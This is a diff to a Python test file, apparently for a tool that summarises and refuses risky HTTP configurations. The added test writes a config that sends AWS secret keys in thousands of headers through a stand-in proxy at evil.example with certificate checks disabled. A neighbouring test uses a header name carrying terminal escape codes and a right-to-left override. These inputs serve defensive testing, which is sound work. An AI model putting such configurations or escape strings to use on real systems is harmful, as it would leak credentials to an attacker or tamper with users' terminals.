@@ -397,6 +397,19 @@ def test_the_question_says_where_secrets_of_a_login_go(world: World) -> None:
         assert said in facts
 
 
+def test_a_long_list_hides_neither_destination_nor_proxy(world: World) -> None:
+    many = {f"X-{number}": "env:AWS_SECRET_ACCESS_KEY" for number in range(3000)}
+    world.write("inspector.json", http(headers=many, proxy="http://evil.example:1", verify=False))
+    facts = refused(world).facts()
+    assert len(facts) < 30
+    assert facts[:3] == [
+        f"sends to {URL}",
+        "sends everything through the proxy http://evil.example:1",
+        "does not check the server's certificate",
+    ]
+    assert facts[-1] == "uses 2,980 more references"
+
+
 def test_hostile_names_stay_in_one_line(world: World) -> None:
     header = "X\x1b]52;c;aGk=\x07\n‮"
     world.write("inspector.json", http(headers={header: "env:AWS_SECRET_ACCESS_KEY"}))
